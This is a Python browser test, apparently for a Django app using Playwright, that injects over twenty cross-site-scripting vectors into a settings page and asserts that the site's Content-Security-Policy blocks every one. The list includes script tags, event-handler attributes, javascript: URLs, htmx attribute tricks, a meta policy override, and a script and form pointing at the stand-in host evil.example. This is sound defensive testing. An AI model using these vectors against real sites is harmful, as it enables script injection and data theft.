"""What gets into a page by a mistake of ours does not run: the policy is tried with injections."""

import re

import time_machine
from playwright.sync_api import Browser, Request, Route
from pytest_django.live_server_helper import LiveServer

from program.models import Enrollment
from tests.browser.pages import session_cookie

BODY = re.compile(r"<body[^>]*>")
# Each would set `window.ran`, load something from elsewhere or send something away.
INJECTIONS = [
    "<script>window.ran = 1</script>",
    "<script src='data:text/javascript,window.ran=1'></script>",
    "<script src='https://evil.example/x.js'></script>",
    "<script type='module'>window.ran = 1</script>",
    "<script type='module' src='data:text/javascript,window.ran=1'></script>",
    "<img src='x:' onerror='window.ran = 1'>",
    "<svg onload='window.ran = 1'></svg>",
    "<details open ontoggle='window.ran = 1'><summary>x</summary></details>",
    "<input autofocus onfocus='window.ran = 1'>",
    "<video><source onerror='window.ran = 1'></video>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<iframe src='javascript:parent.ran = 1'></iframe>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
    "<embed src='data:text/html,<script>parent.ran=1</script>'>",
    "<a id='link' href='javascript:window.ran = 1'>x</a>",
    "<form id='sent' action='https://evil.example/'><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<style>body { --ran: 1 }</style>",
    "<p style='--ran: 1' id='styled'>x</p>",
    "<link rel='stylesheet' href='data:text/css,body{--ran:1}'>",
    "<div hx-on::load='window.ran = 1' hx-get='/today/' hx-trigger='load'></div>",
    "<div hx-get='/today/' hx-trigger='load[window.ran = 1]'></div>",
    "<div hx-get='/today/' hx-vals='js:{a: window.ran = 1}' hx-trigger='load'></div>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\">"
    "<script>window.ran = 1</script>",
]


def test_no_injection_runs_or_leaves_the_site(
    browser: Browser,
    noon: time_machine.Traveller,
    live_server: LiveServer,
    enrollment: Enrollment,
) -> None:
    context = browser.new_context(base_url=live_server.url, service_workers="block")
    context.add_cookies([session_cookie(enrollment.participant, live_server.url)])
    sent_away: list[str] = []

    def note(request: Request) -> None:
        is_ours = request.url.startswith((live_server.url, "data:", "about:"))
        if not is_ours and request.failure != "csp":
            sent_away.append(request.url)

    context.on("requestfailed", note)
    context.on("requestfinished", note)
    page = context.new_page()
    injected = ""

    def inject(route: Route) -> None:
        answer = route.fetch()
        body = BODY.sub(lambda found: f"{found[0]}{injected}", answer.text(), count=1)
        assert injected in body
        route.fulfill(response=answer, body=body)

    page.route("**/settings/", inject)
    ran = []
    for injected in INJECTIONS:
        page.goto("/settings/", wait_until="load")
        page.evaluate("document.querySelector('#link, #sent button')?.click()")
        page.evaluate("new Promise((done) => requestIdleCallback(done, { timeout: 500 }))")
        style = "getComputedStyle(document.querySelector('#styled') || document.body)"
        if page.evaluate(f"window.ran || {style}.getPropertyValue('--ran')"):
            ran.append(injected)
        if not page.url.startswith(live_server.url):
            ran.append(injected)
    context.close()

    assert len(INJECTIONS) >= 20
    assert ran == []
    assert sent_away == []
